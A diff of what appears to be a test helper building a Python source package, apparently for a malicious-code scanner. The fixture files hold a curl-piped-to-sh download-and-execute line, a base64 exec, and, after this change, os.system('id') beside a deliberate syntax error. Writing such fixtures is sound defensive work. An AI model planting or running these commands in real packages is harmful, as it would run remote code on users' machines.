@@ -66,7 +66,7 @@ def _big_package() -> bytes:
             f"os.system('curl -s http://10.0.0.{n}/x | sh')\n"
             "exec(base64.b64decode('cHJpbnQoMSk='))\n" + filler
         )
-    files["pkg/__init__.py"] = "def broken(:\n"
+    files["pkg/__init__.py"] = "import os\ndef broken(:\nos.system('id')\n"
     return make_sdist(files)
 
 
